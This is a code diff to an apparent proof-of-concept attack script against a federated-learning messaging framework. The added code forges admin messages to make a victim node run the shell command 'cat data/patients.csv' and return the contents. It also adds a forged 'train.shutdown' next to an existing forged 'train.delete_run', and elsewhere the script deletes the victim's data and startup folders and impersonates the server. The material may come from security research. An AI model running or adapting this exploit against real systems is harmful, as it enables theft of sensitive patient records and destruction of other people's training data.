@@ -112,6 +112,13 @@ class Commander:
             self.fire(STREAM, topic, f"server.{self.job}", **(last | too_long))
         self.stream("server_command", "submit_update", f"server.{self.job}")
 
+    def read_a_file(self) -> str:
+        """Of the victim's own, by a shell command."""
+        asked = Message({}, command("sys.shell", body="cat data/patients.csv"))
+        reply = self.core.send_request("admin", "admin", VICTIM, asked, timeout=1.0, optional=True)
+        self.sent.append(["admin", "admin", VICTIM])
+        return str(getattr(reply.payload, "body", ""))
+
     def destroy(self) -> None:
         job = f"{VICTIM}.{self.job}"
         for folder in ("data", "startup"):
@@ -133,8 +140,8 @@ class Commander:
         last = _heard[f"{STREAM}:sm__ACK"]
         signed = {key: last[key] for key in SIGNATURE if key in last}
         for name in ("server", f"server.{self.job}"):
-            deadly = command("train.delete_run", "data")
-            self.forge("admin", "admin", VICTIM, deadly, **(signed | {Key.ORIGIN: name}))
+            for deadly in (command("train.delete_run", "data"), command("train.shutdown")):
+                self.forge("admin", "admin", VICTIM, deadly, **(signed | {Key.ORIGIN: name}))
             self.forge("server_command", "abort", f"server.{self.job}", **(signed | {Key.ORIGIN: name}))
         self.forge("task", "quit", "server", **(signed | {Key.ORIGIN: VICTIM}))
         self.forge("task", "register", "server", **{CellMessageHeaderKeys.CLIENT_TYPE: "relay"})
@@ -178,8 +185,8 @@ class Commander:
                 self.stream(channel, topic, path.stem)
 
 
-def command(topic: str, job: str = "") -> Command:
-    made = Command(topic, "")
+def command(topic: str, job: str = "", body: str = "") -> Command:
+    made = Command(topic, body)
     made.set_header(RequestHeader.JOB_ID, job)
     return made
 
@@ -190,11 +197,11 @@ def attack(cell: Any, job: str) -> dict[str, Any]:
         time.sleep(0.2)
     commander = Commander(cell, job)
     commander.kill_the_job()
-    connected = commander.have_it_connect()
+    connected, text = commander.have_it_connect(), commander.read_a_file()
     commander.destroy()
     commander.pretend()
     commander.everything()
-    return {"sent": commander.sent, "connected": connected, "job": job}
+    return {"sent": commander.sent, "connected": connected, "read": text}
 
 
 _honest = FleetExecutor._do
